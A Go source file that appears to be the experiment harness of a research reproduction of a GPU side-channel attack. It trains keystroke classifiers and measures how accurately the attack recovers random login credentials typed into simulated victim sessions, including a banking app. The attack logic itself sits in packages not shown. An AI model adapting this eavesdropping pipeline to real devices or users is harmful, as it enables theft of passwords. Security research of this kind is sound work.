// a singleflight: the first caller of a configuration trains while the
// lock is released, so concurrent experiments training DIFFERENT
// configurations proceed in parallel and concurrent callers of the SAME
// configuration wait for one training instead of duplicating it.
type modelEntry struct {
	once sync.Once
	m    *attack.Model
	err  error
}

var (
	modelMu    sync.Mutex
	modelCache = map[string]*modelEntry{}
)

// TrainModel returns the (cached) classifier for a configuration,
// training with one collection worker per CPU.
func TrainModel(cfg victim.Config) (*attack.Model, error) {
	return TrainModelWorkers(cfg, 0)
}

// TrainModelWorkers is TrainModel with an explicit collection worker
// count (1 = serial, 0 = one per CPU). The worker count never changes the
// trained model — collection is byte-identical at any worker count — so
// it is not part of the cache key.
func TrainModelWorkers(cfg victim.Config, workers int) (*attack.Model, error) {
	return TrainModelChannel(cfg, workers, "")
}

// TrainModelChannel is TrainModelWorkers on a named side channel (empty =
// the default KGSL channel); models of different channels cache under
// different keys.
func TrainModelChannel(cfg victim.Config, workers int, channel string) (*attack.Model, error) {
	train := cfg
	train.RenderJitter = 0
	train.CPULoad = 0
	train.GPULoad = 0
	train.Seed = 12345
	key := attack.ModelKeyForChannel(train, channel).String() + fmt.Sprintf("/app=%s", appName(train))
	modelMu.Lock()
	e, ok := modelCache[key]
	if !ok {
		e = &modelEntry{}
		modelCache[key] = e
	}
	modelMu.Unlock()
	e.once.Do(func() {
		e.m, e.err = attack.Collect(train, attack.CollectOptions{Repeats: 2, Workers: workers, Channel: channel})
	})
	return e.m, e.err
}

func appName(cfg victim.Config) string {
	if cfg.App == nil {
		return "Chase"
	}
	return cfg.App.Name
}

// CredAlphabet is the character pool for random credentials: the paper's
// login usernames/passwords are dominated by lowercase letters and digits
// with occasional uppercase and symbols.
var CredAlphabet = []rune("abcdefghijklmnopqrstuvwxyz" +
	"abcdefghijklmnopqrstuvwxyz" + // double weight for lowercase
	"0123456789" +
	"ABCDEFGHIJKLMNOPQRSTUVWXYZ" +
	`@#$&-+()/*!?,.:;'"`)

// LowerDigits restricts credentials to lowercase plus digits (used where
// the experiment wants minimal page switching).
var LowerDigits = []rune("abcdefghijklmnopqrstuvwxyz0123456789")

// EavesdropOnce runs a full victim session typing text and returns the
// attack's inference.
func EavesdropOnce(cfg victim.Config, m *attack.Model, text string,
	vol input.Volunteer, speed input.Speed, interval sim.Time,
	opts attack.OnlineOptions, seed int64) (inferred, truth string, st attack.EngineStats, err error) {
	return eavesdropOnce(context.Background(), cfg, m, text, vol, speed, interval, opts, seed, nil)
}

// eavesdropOnce is EavesdropOnce with a cancellation context and a
// telemetry track attached: the sampler span and every engine verdict of
// the run land on obsTr.
func eavesdropOnce(ctx context.Context, cfg victim.Config, m *attack.Model, text string,
	vol input.Volunteer, speed input.Speed, interval sim.Time,
	opts attack.OnlineOptions, seed int64, obsTr *obs.Tracer) (inferred, truth string, st attack.EngineStats, err error) {

	cfg.Seed = seed
	sess := victim.New(cfg)
	script := input.Typing(text, vol, speed, sim.NewRand(seed^0x5DEECE66D), 700*sim.Millisecond)
	sess.Run(script)
	sess.Device.SetMetrics(obsTr.Metrics())
	f, err := sess.Open()
	if err != nil {
		return "", "", attack.EngineStats{}, err
	}
	atk := &attack.Attack{Models: []*attack.Model{m}, Interval: interval, Options: opts, Obs: obsTr}
	res, err := atk.EavesdropContext(ctx, f, 0, sess.End)
	if err != nil {
		return "", "", attack.EngineStats{}, err
	}
	return res.Text, sess.TypedText(), res.Stats, nil
}

// BatchResult aggregates a batch of eavesdropping runs.
type BatchResult struct {
	Inferred []string
	Truth    []string
	Stats    attack.EngineStats
}

// TextAccuracy returns the exact-match accuracy (§7.1).
func (b *BatchResult) TextAccuracy() float64 { return stats.TextAccuracy(b.Inferred, b.Truth) }

// CharAccuracy returns the per-key accuracy (§7.1).
func (b *BatchResult) CharAccuracy() float64 { return stats.CharAccuracy(b.Inferred, b.Truth) }

// MeanErrors returns the mean number of wrong keys per text (Fig 17b).
func (b *BatchResult) MeanErrors() float64 { return stats.MeanErrors(b.Inferred, b.Truth) }

// RunBatch eavesdrops n random credentials of the given length. Sessions
// are independent simulations, so they fan out across o.Workers; texts
// and seeds are assigned by index, keeping results identical to a serial
// run.
func RunBatch(o Options, cfg victim.Config, m *attack.Model, alphabet []rune, length, n int,
	vol input.Volunteer, speed input.Speed, interval sim.Time,
	opts attack.OnlineOptions, seed int64) (*BatchResult, error) {

	rng := sim.NewRand(seed)
	texts := make([]string, n)
	for i := range texts {
		texts[i] = input.RandomText(rng, alphabet, length)
	}

	// Trial tracks are pre-created in index order by this goroutine, so
	// the merged telemetry stream is identical at any worker count.
	var children []*obs.Tracer
	if o.Obs != nil {
		children = make([]*obs.Tracer, n)
		for i := range children {
			children[i] = o.Obs.Child(fmt.Sprintf("trial/%03d", i))
		}
	}

	type slot struct {
		inferred, truth string
		stats           attack.EngineStats
	}
	slots := make([]slot, n)
	err := parallel.ForEachCtx(o.Context(), o.Workers, n, func(i int) error {
		var tr *obs.Tracer
		if children != nil {
			tr = children[i]
		}
		inf, truth, st, err := eavesdropOnce(o.Context(), cfg, m, texts[i], vol, speed,
			interval, opts, seed+int64(i)*101, tr)
		if err != nil {
			return err
		}
		slots[i] = slot{inferred: inf, truth: truth, stats: st}
		return nil
	})
	if err != nil {
		return nil, err
	}

	out := &BatchResult{}
	for _, s := range slots {
		out.Inferred = append(out.Inferred, s.inferred)
		out.Truth = append(out.Truth, s.truth)
		accumulate(&out.Stats, s.stats)
	}
	return out, nil
}

func accumulate(dst *attack.EngineStats, s attack.EngineStats) {
	dst.Deltas += s.Deltas
	dst.Keys += s.Keys
	dst.Duplicates += s.Duplicates
	dst.Splits += s.Splits
	dst.Noise += s.Noise
	dst.NoiseSplits += s.NoiseSplits
	dst.Recombined += s.Recombined
	dst.Unknown += s.Unknown
	dst.Corrections += s.Corrections
	dst.Switches += s.Switches
	dst.Gaps += s.Gaps
	dst.Resyncs += s.Resyncs
}

// GroupAccuracies computes per-character-group accuracy (Fig 17c/21c)
// using the same greedy edit alignment as the per-key confusion scoring,
// so a single dropped character does not misalign the rest of the text.
func GroupAccuracies(inferred, truth []string) map[string]float64 {
	conf := stats.NewConfusion()
	for i := range truth {
		inf := ""
		if i < len(inferred) {
			inf = inferred[i]
		}
		scoreConfusion(conf, inf, truth[i])
	}
	accSum := map[string]float64{}
	count := map[string]int{}
	for _, r := range conf.Seen() {
		g := stats.CharGroup(r)
		accSum[g] += conf.Accuracy(r)
		count[g]++
	}
	out := map[string]float64{}
	for g, n := range count {
		out[g] = accSum[g] / float64(n)
	}
	return out
}
